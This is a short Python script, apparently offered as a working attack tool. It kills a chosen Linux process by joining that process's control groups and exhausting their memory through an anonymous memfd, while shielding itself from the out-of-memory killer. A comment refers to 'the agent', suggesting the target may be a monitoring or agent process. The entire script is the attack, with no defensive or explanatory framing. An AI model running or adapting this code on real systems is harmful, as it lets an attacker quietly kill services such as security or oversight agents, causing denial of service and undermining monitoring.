"""Moves into the control groups of a process and takes memory there, none of it in its own name, so that the kernel ends that process."""
import os
import sys

MEBIBYTE = b"x" * (1 << 20)
MOST = 4096

with open(f"/proc/{sys.argv[1]}/cgroup", encoding="utf-8") as file:
    groups = [line.rstrip("\n").split(":", 2) for line in file]
try:
    with open("/proc/self/oom_score_adj", "w", encoding="utf-8") as file:
        file.write("-1000")
except PermissionError:
    # Then systemd could not give the agent a lower score either, and the larger of the two goes.
    pass
for _, name, path in groups:
    folder = {"": "unified", "memory": "memory", "name=systemd": "systemd"}.get(name)
    # With version 2 alone there is one hierarchy, and it has no folder of its own.
    roots = [] if folder is None else [f"/sys/fs/cgroup/{folder}", "/sys/fs/cgroup"]
    for root in roots:
        if os.path.exists(f"{root}{path}/cgroup.procs"):
            with open(f"{root}{path}/cgroup.procs", "w", encoding="utf-8") as file:
                file.write("0")
            break

# A file in memory counts for the group, and for no process.
taken = os.memfd_create("taken")
for _ in range(MOST):
    os.write(taken, MEBIBYTE)
